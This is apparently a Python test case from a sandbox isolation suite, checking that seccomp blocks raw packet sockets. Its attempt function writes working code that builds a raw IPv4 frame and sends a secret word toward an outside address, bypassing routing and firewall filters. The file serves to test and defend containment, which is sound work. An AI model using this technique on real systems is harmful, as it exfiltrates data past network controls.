"""Frames written to the network device.

A packet socket goes past routing, addresses and filters: what is written is on the wire. It does not
open inside, and there is no device but loopback.

Layers: seccomp, with a record; without it the worker lacks the right, and the room drops what is
sent.

Not covered: devices that somebody moves into the room; nobody inside can.
"""

import socket
import struct

ATTACK = {
    "title": "Frames past all filters (packet socket)",
    "group": "roads",
    "layer": "seccomp",
    "risk": "exfiltration",
    "references": ["packet(7)", "CVE-2020-14386", "ATT&CK T1095"],
    "arrives": [{"what": "packet", "protocol": "254"}],
    "stopped": [
        {
            "reason": ["socket-family-refused"],
            "entry": ["socket"],
            "layer": ["seccomp"],
            "where": {"call": "socket(AF_PACKET, SOCK_RAW, *"},
        }
    ],
    "needs": ["root"],
}


def attempt(kit):
    def write():
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
            device = next(name for _, name in socket.if_nameindex() if name != "lo") if kit.is_open else "lo"
            sender.bind((device, 0))
            addresses = socket.inet_aton("10.9.0.2") + socket.inet_aton("93.184.216.66")
            packet = struct.pack("!BBHHHBBH", 0x45, 0, 20 + 12, 1, 0, 64, 254, 0) + addresses
            return sender.send(b"\xff" * 12 + b"\x08\x00" + packet + kit.word.encode())

    kit.do("frame", write)
